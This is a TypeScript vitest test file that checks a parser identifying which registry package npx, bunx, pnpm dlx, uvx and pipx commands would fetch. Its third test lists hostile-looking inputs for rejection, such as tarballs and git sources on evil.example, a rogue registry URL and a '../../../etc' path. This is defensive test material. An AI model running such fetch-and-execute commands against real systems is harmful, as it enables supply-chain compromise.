import { expect, test } from 'vitest';
import { packageAsked } from './package-asked.ts';

const asked = (line: string) => packageAsked(line.split(' '));

test('what npx and its like are asked for', () => {
  for (const [line, expected] of [
    ['npx -y @scope/server', { from: 'npm', name: '@scope/server', args: [] }],
    ['npx --yes server@1.2.3 /data --flag', { from: 'npm', name: 'server', wanted: '1.2.3', args: ['/data', '--flag'] }],
    ['/usr/bin/npx -y @scope/server@^2 -y', { name: '@scope/server', wanted: '^2', args: ['-y'] }],
    ['npx -p @scope/server run-it --x', { name: '@scope/server', program: 'run-it', args: ['--x'] }],
    ['npx --package=server@latest -- run-it', { name: 'server', wanted: 'latest', program: 'run-it' }],
    ['npm exec -- server one', { name: 'server', args: ['one'] }],
    ['pnpm dlx server', { name: 'server' }],
    ['bunx --bun server', { name: 'server' }],
    ['npx.cmd -y server', { name: 'server' }],
  ] as const)
    expect(asked(line), line).toMatchObject(expected);
});

test('what uvx and its like are asked for', () => {
  for (const [line, expected] of [
    [
      'uvx mcp-server-time --local-timezone Europe/Rome',
      { from: 'pypi', name: 'mcp-server-time', args: ['--local-timezone', 'Europe/Rome'] },
    ],
    ['uvx mcp-server-time@1.2.3', { name: 'mcp-server-time', wanted: '1.2.3' }],
    ['uvx --from notes==2.0 notes-server', { name: 'notes', wanted: '2.0', program: 'notes-server' }],
    ['uvx --python 3.12 notes', { name: 'notes', args: [] }],
    ['uv tool run notes', { name: 'notes' }],
    ['pipx run --spec notes notes-server', { name: 'notes', program: 'notes-server' }],
    ['uvx notes[cli]', { name: 'notes' }],
  ] as const)
    expect(asked(line), line).toMatchObject(expected);
});

test('what is no package by its name in the registry is said to be none', () => {
  for (const line of [
    'npx -y https://evil.example/x.tgz',
    'npx -y github:evil/x',
    'npx -y evil/x',
    'npx -y git+ssh://evil.example/x',
    'npx -y ./local',
    'npx -y server@file:../x',
    'npx -y server@npm:other@1',
    'npx -y server@https://evil.example/x.tgz',
    'npx -c echo',
    'npx --registry=https://evil.example server',
    'npx',
    'npx -y ../../../etc',
    'uvx --index-url https://evil.example notes',
    'uvx --from git+https://evil.example/x notes',
    'uvx -r',
    'docker run x',
  ])
    expect(asked(line), line).toMatchObject({ no: expect.any(String) });
});

test('other commands fetch nothing', () => {
  for (const line of ['node server.js', 'mcp-server-notes', 'python3 -m notes', 'uv pip', 'npm start'])
    expect(asked(line), line).toBeUndefined();
});
